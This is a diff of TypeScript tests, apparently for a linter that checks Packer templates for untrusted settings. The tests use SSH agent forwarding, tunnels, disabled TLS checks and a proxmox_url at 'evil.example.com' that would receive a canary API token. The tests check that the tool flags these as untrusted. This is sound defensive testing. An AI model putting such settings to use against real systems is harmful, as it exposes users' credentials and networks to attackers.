@@ -258,3 +258,39 @@ describe('what is not a file', () => {
 it('the canary is there to be found', () => {
   expect(readFileSync(path.join(workspace, 'link'), 'utf8')).toContain(canary)
 })
+
+describe('ways from the guest to this machine', () => {
+  const guest = (lines: string) =>
+    `source "null" "a" {\n  ssh_host = "10.0.0.9"\n  ssh_username = "root"\n  ssh_password = "p"\n  ${lines}\n}\nbuild {\n  sources = ["null.a"]\n}\n`
+
+  it.each([
+    ['ssh_agent_auth = true', 'env', 5],
+    ['ssh_disable_agent_forwarding = false', 'env', 5],
+    ['ssh_remote_tunnels = ["8080:localhost:80"]', 'network', 5],
+    ['ssh_local_tunnels = ["8080:localhost:80"]', 'network', 5],
+    ['ssh_proxy_host = "10.0.0.1"', 'network', 5],
+    ['', 'network', 2],
+  ] as const)('%s is not built', async (lines, grant, line) => {
+    const problems = await told(guest(lines), { toBuild: true, env: { SSH_AUTH_SOCK: '/agent' } })
+    const refused = problems.filter(({ code }) => code === `untrusted-${grant}`)
+    expect(refused.map(({ range }) => range && startOf(range).line)).toContain(line)
+    const granted = await told(guest(lines), {
+      toBuild: true,
+      granted: ['env', 'network'],
+      env: { SSH_AUTH_SOCK: '/agent' },
+    })
+    expect(granted).toEqual([])
+  })
+
+  it('the credentials of others go to no server of the template’s choice', async () => {
+    const machine = (lines: string) =>
+      `source "proxmox-iso" "a" {\n${lines}\n  node = "pve"\n  ssh_username = "root"\n  ssh_password = "p"\n  boot_iso {\n    iso_file = "local:iso/a.iso"\n  }\n}\nbuild {\n  sources = ["proxmox-iso.a"]\n}\n`
+    const env = { PROXMOX_USERNAME: 'a@pve!b', PROXMOX_TOKEN: canary }
+    const own = machine('  proxmox_url = "https://evil.example.com/api2/json"')
+    expect(await told(own, { toBuild: true, env })).toMatchObject([{ code: 'untrusted-network', severity: 'error' }])
+    const blind = machine('  insecure_skip_tls_verify = true')
+    const url = { ...env, PROXMOX_URL: 'https://pve.example.com:8006/api2/json' }
+    expect(await told(blind, { toBuild: true, env: url })).toMatchObject([{ code: 'untrusted-network' }])
+    expect(await told(machine(''), { toBuild: true, env: url })).toEqual([])
+  })
+})
